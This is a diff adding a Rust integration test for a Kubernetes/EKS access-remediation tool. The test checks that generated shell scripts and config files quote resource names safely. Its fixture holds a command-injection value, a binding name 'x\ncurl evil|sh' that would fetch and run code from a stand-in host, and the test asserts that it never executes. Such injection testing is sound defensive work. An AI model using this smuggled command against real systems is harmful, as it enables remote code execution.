@@ -122,3 +122,94 @@ fn each_format_prints_alone_and_eksctl_needs_a_region() {
     let out = run_fails(grantscope(&db).args(["--format", "terraform", "stats"]));
     assert!(String::from_utf8_lossy(&out.stderr).contains("this command prints text or json"));
 }
+
+/// A directory of stand-ins for `aws`, `kubectl` and `eksctl` (and `curl`) that record how they were
+/// called, one line per call, and read their input: the script runs for real against them.
+fn stub_path(dir: &Path) -> (std::path::PathBuf, std::path::PathBuf) {
+    use std::os::unix::fs::PermissionsExt;
+    let bin = dir.join("stub-bin");
+    let log = dir.join("calls.log");
+    std::fs::create_dir_all(&bin).unwrap();
+    for tool in ["aws", "kubectl", "eksctl", "curl"] {
+        let path = bin.join(tool);
+        let body = format!(
+            "#!/bin/sh\nprintf '%s' \"{tool}\" >> \"{log}\"\nfor a in \"$@\"; do printf ' [%s]' \"$a\" >> \"{log}\"; done\necho >> \"{log}\"\n[ \"$*\" = \"apply -f -\" ] && cat > /dev/null\nexit 0\n",
+            log = log.display()
+        );
+        std::fs::write(&path, body).unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    (bin, log)
+}
+
+#[test]
+fn the_script_runs_as_one_plan_and_no_name_escapes_its_quotes_or_comments() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = cluster_with_data(dir.path(), 20);
+    let db = dir.path().join("g.db");
+    // platform-admin also carries a group nothing uses: two findings change its entry's groups.
+    let state = std::fs::read_to_string(data.join("state.yaml")).unwrap().replace(
+        "- principalARN: arn:aws:iam::111122223333:role/platform-admin\n",
+        "- principalARN: arn:aws:iam::111122223333:role/platform-admin\n      kubernetesGroups: [incident-responders]\n",
+    );
+    let edited = dir.path().join("state.yaml");
+    std::fs::write(&edited, state).unwrap();
+    // An unused binding whose name would end a comment line and run a command.
+    let hostile = dir.path().join("hostile.yaml");
+    std::fs::write(
+        &hostile,
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: \"x\\ncurl evil|sh\"}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\nsubjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: nobody}]\n",
+    )
+    .unwrap();
+    run_ok(grantscope(&db).args(["-q", "state", "import", "--cluster", "demo"]).arg(&edited).arg(&hostile));
+    let out = dir.path().join("remediation");
+    remediate_out(&db, &out);
+
+    let (bin, log) = stub_path(dir.path());
+    let run = std::process::Command::new("sh")
+        .arg(out.join("demo.sh"))
+        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
+        .output()
+        .unwrap();
+    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
+    let calls = std::fs::read_to_string(&log).unwrap();
+    // (A stand-in's call is logged as `tool [arg]...`; the name's own line break shows inside its brackets.)
+    assert!(!calls.lines().any(|l| l == "curl" || l.starts_with("curl [")), "nothing ran from a name: {calls}");
+    assert!(
+        calls.contains("kubectl [delete] [clusterrolebinding] [x\ncurl evil|sh]"),
+        "the name is one argument: {calls}"
+    );
+    // One update for platform-admin, with the final list: the generated group in, the unused one out.
+    let updates: Vec<&str> =
+        calls.lines().filter(|l| l.contains("[update-access-entry]") && l.contains("role/platform-admin]")).collect();
+    assert_eq!(updates.len(), 1, "{calls}");
+    assert!(
+        updates[0].contains("[[\"grantscope-platform-admin-") && !updates[0].contains("incident-responders"),
+        "{}",
+        updates[0]
+    );
+    // Grants are added before any is taken away.
+    let first =
+        |needle: &str| calls.lines().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {calls}"));
+    assert!(first("kubectl [apply]") < first("[update-access-entry]"));
+    assert!(first("[update-access-entry]") < first("[disassociate-access-policy]"));
+    assert!(first("[associate-access-policy]") < first("[delete-access-entry]"));
+
+    // The other files keep the name inside their comments too, and still validate.
+    for file in ["demo.k8s.yaml", "demo.tf", "demo.eksctl.yaml"] {
+        let text = std::fs::read_to_string(out.join(file)).unwrap();
+        assert!(!text.lines().any(|l| l.starts_with("curl")), "{file}: {text}");
+    }
+    let check = validator("kubernetes-validate")
+        .args(["--strict", "--quiet", "-k", "1.33"])
+        .arg(out.join("demo.k8s.yaml"))
+        .output()
+        .unwrap();
+    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stdout));
+    let parsed = validator("python")
+        .args(["-c", "import hcl2,sys; hcl2.load(open(sys.argv[1]))"])
+        .arg(out.join("demo.tf"))
+        .output()
+        .unwrap();
+    assert!(parsed.status.success(), "{}", String::from_utf8_lossy(&parsed.stderr));
+}
